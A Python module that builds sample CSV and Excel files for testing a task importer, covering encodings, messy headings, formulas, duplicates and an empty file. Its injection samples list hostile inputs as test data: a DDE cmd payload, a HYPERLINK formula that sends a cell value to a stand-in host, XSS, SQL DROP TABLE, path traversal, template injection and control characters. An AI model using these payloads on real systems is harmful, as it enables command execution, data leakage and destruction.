"""The samples folder: small files, each of which shows one thing that spreadsheets do. What they give stands in its README."""

from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

from importer.samples.files import DATE_FORMAT, Cell, fill, widths, workbook, write_csv
from importer.samples.mixed import make_mixed
from importer.samples.tasks import FIRST_DUE, HEADINGS, Maker
from importer.samples.workitems import make_workitems

Rows = list[Sequence[Cell]]


def make_samples(folder: Path, seed: int = 1) -> list[Path]:
    """Writes the samples into the folder, over those that are there; gives their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    return [
        write_csv(folder / "tasks-small.csv", _small(seed)),
        make_mixed(folder / "tasks-mixed.xlsx", seed),
        _semicolon(folder / "tasks-semicolon-cp1252.csv"),
        write_csv(folder / "tasks-utf16.tsv", UTF16, delimiter="\t", encoding="utf-16", line_end="\r\n"),
        _messy_headers(folder / "tasks-messy-headers.xlsx"),
        _formulas(folder / "tasks-formulas.xlsx", seed),
        write_csv(folder / "tasks-injection.csv", INJECTION),
        _duplicates(folder / "tasks-duplicates.xlsx", seed),
        make_workitems(folder / "workitems-mixed.xlsx", seed),
        _empty(folder / "empty.csv"),
    ]


def _small(seed: int) -> Rows:
    maker = Maker(seed)
    queues = maker.mixed(["Billing"] * 9 + ["Claims"] * 7 + ["Onboarding"] * 4)
    return [HEADINGS, *(maker.task(f"EXT-{number:04}", queue) for number, queue in enumerate(queues, 1))]


# Semicolons and Windows-1252, as a German Excel saves CSV

SEMICOLON: Rows = [
    ("Vorgangsnummer", "Warteschlange", "Priorität", "Kanal", "Beschreibung", "Betrag", "Bemerkung"),
    ("VG-0001", "Billing", "80", "email", "Rechnung für März doppelt abgebucht – bitte prüfen", "49,90 €", "ruft zurück"),
    ("VG-0002", "Billing", "50", "call", "Überweisung über 120,00 € nicht zugeordnet", "120,00 €", ""),
    ("VG-0003", "Claims", "70", "email", "Paket beschädigt geliefert, Fotos liegen bei", "35,50 €", "Rücksendung läuft"),
    ("VG-0004", "Onboarding", "", "callback", "Anschluss in Köln-Süd: Termin mit dem Techniker bestätigen", "", ""),
    ("VG-0005", "Claims", "90", "", "Wasserschaden; „Gutachter meldet sich“ war die letzte Auskunft", "1.250,00 €", "eilig"),
    ("VG-0006", "Billing", "40", "message", "Möchte Rechnungen künftig per E-Mail; Straße geändert", "", "Adresse prüfen"),
    ("VG-0007", "Onboarding", "30", "email", "Zugangsdaten ungültig; Übergabe an die zweite Ebene", "", ""),
    ("VG-0008", "Billing", "60", "chat", "Fragt nach der Gebühr für größere Datenmengen", "9,95 €", "Süddeutschland"),
    ("VG-0009", "Claims", "20", "workitem", "Lieferung; Ersatz; Rückruf: alles am selben Tag gewünscht", "", ""),
    ("VG-0010", "Billing", "10", "email", "Mahnung trotz Zahlung; Gutschrift fällig", "15,00 €", "zweite Mahnung"),
]  # fmt: skip


def _semicolon(path: Path) -> Path:
    return write_csv(path, SEMICOLON, delimiter=";", encoding="cp1252", line_end="\r\n")


# Tabs and UTF-16, as Excel saves “Unicode text”

UTF16: Rows = [
    ("External ID", "Queue", "Priority", "Type", "Description", "Language"),
    ("UNI-0001", "Billing", "50", "email", "Λάθος ποσό στο τιμολόγιο του Μαρτίου", "el"),
    ("UNI-0002", "Claims", "70", "call", "Paczka dotarła uszkodzona, klient przesłał zdjęcia", "pl"),
    ("UNI-0003", "Billing", "40", "chat", "請求書の宛名を変更してほしい", "ja"),
    ("UNI-0004", "Onboarding", "", "callback", "Прошу подтвердить время подключения", "ru"),
    ("UNI-0005", "Claims", "90", "email", "الطرد لم يصل بعد", "ar"),
    ("UNI-0006", "Billing", "60", "message", "Thanks for the quick answer 👍 but the amount is still wrong", "en"),
    ("UNI-0007", "Onboarding", "30", "email", "Two wishes:\nan earlier date\nand a call before", "en"),
    ("UNI-0008", "Billing", "20", "", 'Customer wrote "please hurry", twice', "en"),
]


# Headings by many hands

MESSY: Rows = [
    ("RÉFÉRENCE  EXTERNE :", "Montant (€)", "  cola", "Prioridad!", "Task Typ", "Libellé…", "Attribut: langue", "Agence"),
    ("MH-001", 120.5, "Billing", 50, "call", "Facture de mars prélevée deux fois", "fr", "Lyon"),
    ("MH-002", 80, "Claims", 70, "email", "Colis arrivé endommagé, photos jointes", "fr", "Lille"),
    ("MH-003", None, "billing", 20, "chat", "La factura no llegó por correo", "es", "Madrid"),
    ("MH-004", 15.25, "ONBOARDING", None, "call", "Confirmar la cita con el técnico", "es", "Sevilla"),
    ("MH-005", None, "Claims", 90, "email", "Dégât des eaux, l'expert n'a pas rappelé", "fr", "Nantes"),
    ("MH-006", 9.99, "Billing", 35, "message", "Pide un duplicado de la factura de abril", "es", "Bilbao"),
]  # fmt: skip


def _messy_headers(path: Path) -> Path:
    with workbook(path) as book:
        sheet = book.add_worksheet("Données 2026")
        fill(book, sheet, MESSY, line=4, column=1)
        widths(sheet, 4, 22, 12, 12, 11, 10, 46, 16, 10)
    return path


# What spreadsheets calculate, format and hide


def _formulas(path: Path, seed: int) -> Path:
    with workbook(path) as book:
        sheet = book.add_worksheet("Tasks")
        title = book.add_format({"bold": True, "font_size": 14, "align": "center"})
        sheet.merge_range("A1:G1", "Requests, calculated", title)
        fill(book, sheet, [("External ID", "Queue", "Priority", "Type", "Description", "Due", "Days left")], line=3)
        _formula_rows(book, sheet, Maker(seed))
        sheet.set_row(6, None, None, {"hidden": True})
        sheet.set_row(9, None, None, {"hidden": True})
        widths(sheet, 14, 14, 9, 10, 66, 17, 10)
        lookup = book.add_worksheet("Lookup")
        fill(book, lookup, [("Key", "Queue"), ("B", "Billing"), ("C", "Claims"), ("O", "Onboarding")])
        lookup.hide()
    return path


def _formula_rows(book: Any, sheet: Any, maker: Maker) -> None:
    zeros = book.add_format({"num_format": "00000"})
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    moment = book.add_format({"num_format": DATE_FORMAT})
    for row in range(3, 15):
        line, number, queue = row + 1, row - 2, maker.pick(("Billing", "Claims", "Onboarding"))
        if number % 2:
            sheet.write_formula(row, 0, '="FX-"&TEXT(ROW(),"0000")', None, f"FX-{line:04}")
        else:
            sheet.write_number(row, 0, 120 + number, zeros)
        sheet.write_formula(row, 1, f'=VLOOKUP("{queue[0]}",Lookup!$A$2:$B$4,2,FALSE)', None, queue)
        sheet.write_formula(row, 2, f"=MIN(99,{number}*8)", None, min(99, number * 8))
        sheet.write_string(row, 3, maker.pick(("email", "call", "chat")))
        sheet.write_string(row, 4, maker.story(queue))
        due = FIRST_DUE + timedelta(days=number, hours=number)
        sheet.write_datetime(row, 5, due, moment if number % 2 else day)
        sheet.write_formula(row, 6, f"=F{line}-DATE(2026,3,1)", None, number + 1)
    sheet.write_formula(7, 6, "=F8/0", None, "#DIV/0!")  # in a column that is not sent
    sheet.write_formula(10, 1, '=VLOOKUP("X",Lookup!$A$2:$B$4,2,FALSE)', None, "#N/A")
    sheet.write_formula(12, 4, '="Order "&A13&" is late"', None, "")  # the program that saved it did not calculate


# What must stay text, whatever reads or shows it


INJECTION: Rows = [
    ("External ID", "Queue", "Priority", "Type", "Description", "Notes"),
    ("INJ-001", "Billing", "50", "email", "=cmd|'/C calc'!A0", "=1+1"),
    ("INJ-002", "Billing", "50", "email", "@SUM(1+1)*cmd|'/C calc'!A0", "@SUM(A1:A9)"),
    ("INJ-003", "Billing", "50", "email", "+1", "+1+1"),
    ("INJ-004", "Billing", "50", "email", "-2+3", "-1"),
    ("INJ-005", "Billing", "50", "email", '=HYPERLINK("https://example.invalid/?"&A2,"Open the invoice")', ""),
    ("INJ-006", "Billing", "50", "email", "https://example.invalid/a-link-that-nobody-should-follow", ""),
    ("INJ-007", "Claims", "50", "email", "<script>alert('xss')</script><img src=x onerror=alert(1)>", "<b>bold</b>"),
    ("INJ-008", "Claims", "50", "email", "{{7*7}} ${7*7} {id} %s %n", "{external_id.__class__}"),
    ("INJ-009", "Claims", "50", "email", "'; DROP TABLE tasks; --", "../../etc/passwd"),
    ("INJ-010", "Claims", "50", "email", "Bell \x07 and red \x1b[31mletters\x1b[0m for the terminal", "\x0b"),
    ("INJ-011", "Claims", "50", "email", "Right-to-left: \u202egnp.exe", "zero\u200bwidth"),
    ('INJ-012" OR externalId:"*', "Claims", "50", "email", "Quotes in the ID, for the search", ""),
    ("=2+5+INJ-013", "Claims", "50", "email", "An ID that looks like a formula", ""),
    ("INJ-014", "Onboarding", "50", "email", f"Long: {'very ' * 1000}long", ""),
    ("INJ-015", "Onboarding", "50", "email", "Long, in a column that is not sent", "long " * 6000),
    ("INJ-" + "9" * 120, "Onboarding", "50", "email", "An ID that is too long", ""),
    ("INJ\u200b-017", "Onboarding", "50", "email", "A zero-width space in the ID", ""),
    ("INJ-018", "On\x07boarding", "50", "email", "A bell in the queue's name", ""),
    ("INJ-019", "Onboarding", "=50", "email", "A formula for a priority", ""),
    ("INJ-020", "Onboarding", "1e1", "email", "A priority that only a program takes for a number", ""),
]  # fmt: skip


# The same request, more than once


def _duplicates(path: Path, seed: int) -> Path:
    maker = Maker(seed)
    first = [maker.task(f"DUP-{number:03}", maker.pick(("Billing", "Claims", "Onboarding"))) for number in range(1, 21)]
    again = [
        first[0],  # the whole row
        first[0],  # and once more
        first[4]._replace(description="Entered again by a colleague, in other words"),
        first[7]._replace(queue="Claims" if first[7].queue != "Claims" else "Billing"),
        first[9]._replace(external_id=" DUP-010 "),  # the same ID once it is trimmed
        first[11]._replace(external_id="dup-012"),  # another ID: letters count
        first[14]._replace(priority=120),  # wrong and a repeat: it is told as wrong
    ]
    numbers = [
        maker.task("2026031", "Billing"),
        maker.task("x", "Billing")._replace(external_id=2026031),  # text and number look the same
        maker.task("0002026031", "Billing"),
    ]
    with workbook(path) as book:
        sheet = book.add_worksheet("Tasks")
        fill(book, sheet, [HEADINGS, *first, *again, *numbers])
        widths(sheet, 14, 14, 9, 10, 70, 17, 14, 26)
    return path


def _empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path
